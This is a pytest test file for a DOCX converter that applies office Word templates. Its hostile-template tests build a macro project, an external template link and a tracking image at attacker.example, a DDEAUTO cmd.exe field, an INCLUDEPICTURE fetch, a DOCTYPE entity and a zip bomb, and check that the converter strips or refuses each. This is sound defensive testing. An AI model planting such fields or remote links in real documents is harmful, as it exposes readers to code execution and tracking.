"""House style: an office's template gives styles, headers and page; hostile ones give nothing else."""

import io
import zipfile

import docx
import pytest
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml import parse_xml
from docx.shared import Mm

import govdoc
from govdoc.codes import CODES
from govdoc.context import Context
from govdoc.errors import FormatError, InputError, LimitError, UnreadableError
from govdoc.inkcheck import visible
from govdoc.options import DocxOptions
from govdoc.writers.docx.extract import extract_text
from govdoc.writers.docx.markup import W
from govdoc.writers.docx.starter import starter
from tests.docx.documents import full, plain, png
from tests.docx.order import check_package
from tests.docx.test_package import written

NAMESPACE = f'xmlns:w="{W}"'


def saved(document):
    sink = io.BytesIO()
    document.save(sink)
    return sink.getvalue()


def office():
    """A template with styles of its own names, a header with a picture, and another page."""
    made = docx.Document()
    for name in ("公文标题", "公文正文", "署名", "成文日期"):
        made.styles.add_style(name, WD_STYLE_TYPE.PARAGRAPH).font.name = "Courier New"
    section = made.sections[0]
    section.page_width, section.left_margin, section.right_margin = Mm(182), Mm(20), Mm(22)
    line = section.header.paragraphs[0]
    line.text = "山前市人民政府办公室"
    line.add_run().add_picture(io.BytesIO(png()))
    made.add_paragraph("请在此输入正文")
    return made


def converted(template, document, tmp_path, *codes):
    path = tmp_path / "office.docx"
    path.write_bytes(template)
    context = Context()
    data = govdoc.write(document, "docx", DocxOptions(template=str(path)), context).value
    quiet = {"GD250", "GD302"}
    assert {d.code for d in context.diagnostics} - quiet == set(codes)
    return data, [d for d in context.diagnostics if d.code not in quiet]


def parts(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def edited(data, **changes):
    """A package with parts added or changed; `__` in a name stands for a slash."""
    found = parts(data)
    for name, change in changes.items():
        name = name.replace("__", "/").replace("_dot_", ".").replace("_types_", "[Content_Types].xml")
        found[name] = change(found.get(name, b"")) if callable(change) else change
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in found.items():
            archive.writestr(name, content)
    return sink.getvalue()


def test_roles_take_the_styles_of_the_template_by_name(tmp_path):
    data, told = converted(saved(office()), plain(), tmp_path, "GD342")
    check_package(data)
    opened = docx.Document(io.BytesIO(data))
    found = {p.text: p.style.name for p in opened.paragraphs}
    assert found["2020年度山前市法治政府建设工作报告"] == "公文标题"
    assert found["现将有关情况报告如下："] == "公文正文"
    assert found["一、工作情况"] == "Heading 1"
    assert found["山前市人民政府"] == "署名"
    assert found["2021年3月29日"] == "成文日期"
    assert told[0].values == ("1",)


def test_header_picture_and_page_are_the_template_s(tmp_path):
    data, _ = converted(saved(office()), full(), tmp_path, "GD340", "GD342")
    check_package(data)
    section = docx.Document(io.BytesIO(data)).sections[0]
    assert section.page_width.mm == pytest.approx(182, abs=0.1)
    assert section.header.paragraphs[0].text.strip() == "山前市人民政府办公室"
    assert parts(data)["word/media/frame1.png"] == parts(data)["word/media/image1.png"] == png()
    table = docx.Document(io.BytesIO(data)).tables[0]
    assert sum(column.width.mm for column in table.columns) == pytest.approx(140, abs=0.2)


def test_the_text_and_the_carried_document_are_as_without_template(tmp_path):
    data, _ = converted(saved(office()), full(), tmp_path, "GD340", "GD342")
    assert visible(extract_text(data)) == visible(extract_text(written(full())))
    assert govdoc.read(data, "docx").value == full()


def test_every_role_that_is_used_and_has_no_style_is_named(tmp_path):
    _, told = converted(saved(docx.Document()), plain(), tmp_path, "GD340")
    assert [d.values for d in told] == [("公文署名",), ("公文成文日期",)]


def test_an_added_style_stands_on_the_template_s_default(tmp_path):
    data, _ = converted(saved(docx.Document()), plain(), tmp_path, "GD340")
    style = docx.Document(io.BytesIO(data)).styles["公文署名"]
    assert style.base_style.name == "Normal"


def test_the_same_bytes_again_and_the_template_is_opened_once(tmp_path):
    from govdoc.writers.docx.house import _house

    _house.cache_clear()
    first, _ = converted(saved(office()), plain(), tmp_path, "GD342")
    again, _ = converted((tmp_path / "office.docx").read_bytes(), plain(), tmp_path, "GD342")
    assert first == again
    assert (_house.cache_info().misses, _house.cache_info().hits) == (1, 1)


def test_a_heading_style_that_counts_does_not_count_twice(tmp_path):
    template = docx.Document()
    properties = template.styles["Heading 1"].element.get_or_add_pPr()
    properties.get_or_add_numPr().get_or_add_numId().val = 1
    data, _ = converted(saved(template), plain(), tmp_path, "GD340")
    check_package(data)
    heading = next(p for p in docx.Document(io.BytesIO(data)).paragraphs if p.style.name == "Heading 1")
    assert heading._p.pPr.numPr.numId.val == 0


@pytest.mark.parametrize("suffix", ["docx", "dotx"])
def test_the_starter_has_a_style_for_everything(suffix, tmp_path):
    data = starter(dotx=suffix == "dotx")
    check_package(data)
    made, _ = converted(data, full(), tmp_path, "GD342")
    plainly = docx.Document(io.BytesIO(written(full())))
    names = [p.style.name for p in docx.Document(io.BytesIO(made)).paragraphs]
    assert names == [p.style.name for p in plainly.paragraphs]


def test_the_starter_shows_each_style_in_itself():
    found = docx.Document(io.BytesIO(starter())).paragraphs
    assert all(p.style.name.casefold() in p.text.casefold() for p in found)
    assert len({p.style.name for p in found}) == len(found)


# --- hostile and broken templates -------------------------------------------------------------------------


def macro(kind="template"):
    content_type = f"application/vnd.ms-word.{kind}.macroEnabledTemplate.main+xml".encode()
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    relation = (
        b'<Relationship Id="rIdM" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"'
        b' Target="vbaProject.bin"/></Relationships>'
    )
    return edited(
        saved(docx.Document()),
        _types_=lambda old: old.replace(main, content_type),
        word__vbaProject_dot_bin=b"\xd0\xcf\x11\xe0 macro",
        word___rels__document_dot_xml_dot_rels=lambda old: old.replace(b"</Relationships>", relation),
    )


def test_macros_are_left_out_and_named(tmp_path):
    data, told = converted(macro(), plain(), tmp_path, "GD340", "GD341")
    assert ("宏",) in [d.values for d in told]
    assert not [name for name in parts(data) if "vba" in name]
    assert b"macroEnabled" not in parts(data)["[Content_Types].xml"]


def relations(*made):
    body = "".join(
        f'<Relationship Id="{ident}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'{kind}" Target="{target}" TargetMode="External"/>'
        for ident, kind, target in made
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'


def test_nothing_that_reaches_out_is_taken(tmp_path):
    template = edited(
        saved(office()),
        word___rels__settings_dot_xml_dot_rels=relations(
            ("rId1", "attachedTemplate", "http://attacker.example/a.dotm")
        ),
        word__settings_dot_xml=lambda old: old.replace(
            b"<w:zoom",
            b'<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
            b' r:id="rId1"/><w:zoom',
        ),
    )
    data, told = converted(template, plain(), tmp_path, "GD341", "GD342")
    assert ("外部模板",) in [d.values for d in told]
    assert not [name for name, content in parts(data).items() if b"attacker" in content]
    check_package(data)


@pytest.mark.parametrize(
    "instruction", ["DDEAUTO c:\\\\cmd.exe", "INCLUDEPICTURE http://attacker.example/x", ""]
)
def test_fields_that_fetch_or_run_are_disarmed(instruction, tmp_path):
    template = office()
    line = template.sections[0].header.paragraphs[0]
    for xml in (
        '<w:fldChar w:fldCharType="begin"/>',
        f"<w:instrText>{instruction[:3]}</w:instrText>",
        f"<w:instrText>{instruction[3:]}</w:instrText>",
        '<w:fldChar w:fldCharType="separate"/>',
        "<w:t>结果</w:t>",
        '<w:fldChar w:fldCharType="end"/>',
        '<w:fldChar w:fldCharType="begin"/><w:instrText> PAGE </w:instrText><w:fldChar w:fldCharType="end"/>',
    ):
        line._p.append(parse_xml(f"<w:r {NAMESPACE}>{xml}</w:r>"))
    line._p.append(parse_xml(f'<w:fldSimple {NAMESPACE} w:instr="INCLUDETEXT c:/x"/>'))
    data, told = converted(saved(template), plain(), tmp_path, "GD341", "GD342")
    header = next(content for name, content in parts(data).items() if name.startswith("word/header")).decode()
    assert "结果" in header
    assert header.count("fldChar ") == 2
    assert " PAGE " in header
    assert not {"DDE", "INCLUDE", "attacker"} & {w for w in ("DDE", "INCLUDE", "attacker") if w in header}
    assert ("域指令",) in [d.values for d in told]


def test_a_linked_picture_in_the_header_goes(tmp_path):
    template = edited(
        saved(office()),
        word___rels__header1_dot_xml_dot_rels=relations(
            ("rId1", "image", "http://attacker.example/track.png")
        ),
    )
    data, told = converted(template, plain(), tmp_path, "GD341", "GD342")
    assert ("外部引用",) in [d.values for d in told]
    assert not [name for name, content in parts(data).items() if b"attacker" in content]
    check_package(data)


def test_a_doctype_is_refused(tmp_path):
    bomb = b'<!DOCTYPE w:styles [<!ENTITY a "aaaa">]><w:styles '
    template = edited(saved(office()), word__styles_dot_xml=lambda old: old.replace(b"<w:styles ", bomb, 1))
    with pytest.raises(UnreadableError, match="DOCTYPE"):
        converted(template, plain(), tmp_path)


def test_what_is_no_word_file_is_refused_with_a_way_out(tmp_path):
    with pytest.raises(UnreadableError, match="另存为"):
        converted(b"\xd0\xcf\x11\xe0" + bytes(600), plain(), tmp_path)
    with pytest.raises(UnreadableError):
        converted(b"not a zip", plain(), tmp_path)
    with pytest.raises(FormatError, match="DOCX"):
        converted(edited(b"PK\5\6" + bytes(18), a=b"b"), plain(), tmp_path)
    with pytest.raises(InputError, match="--template"):
        govdoc.write(plain(), "docx", DocxOptions(template=str(tmp_path / "none.docx")))


def test_a_page_without_sense_is_refused(tmp_path):
    template = edited(
        saved(office()), word__document_dot_xml=lambda old: old.replace(b'w:right="', b'w:right="x', 1)
    )
    with pytest.raises(UnreadableError, match="另存"):
        converted(template, plain(), tmp_path)


def test_a_zip_bomb_meets_the_limit(tmp_path):
    template = edited(saved(office()), word__styles_dot_xml=bytes(30_000_000))
    with pytest.raises(LimitError, match="zip_ratio"):
        converted(template, plain(), tmp_path)


def test_every_code_has_a_place():
    assert {"GD340", "GD341", "GD342"} <= set(CODES)


@pytest.mark.parametrize("without", ["settings", "fontTable", "theme", "numbering", "styles"])
def test_a_template_may_lack_any_part(without, tmp_path):
    template = edited(
        saved(office()),
        word___rels__document_dot_xml_dot_rels=lambda old: old.replace(f'/{without}"'.encode(), b'/unknown"'),
    )
    data, _ = converted(template, plain(), tmp_path, "GD342")
    check_package(data)


def test_the_command_line_writes_a_template_and_takes_it(tmp_path, monkeypatch):
    from click.testing import CliRunner

    from govdoc.cli import cli

    monkeypatch.chdir(tmp_path)
    (tmp_path / "a.txt").write_text("关于开展检查的通知\n\n各科室：\n\n现通知如下。\n", "utf-8")
    runner = CliRunner()
    assert runner.invoke(cli, ["template", "-o", "office.dotx"]).exit_code == 0
    done = runner.invoke(cli, ["convert", "a.txt", "--to", "docx", "--template", "office.dotx", "--verify"])
    assert (done.exit_code, done.output) == (0, "")
    assert docx.Document("a.docx").paragraphs[0].style.name == "Title"
    assert runner.invoke(cli, ["template", "-o", "-"]).stdout_bytes == starter()
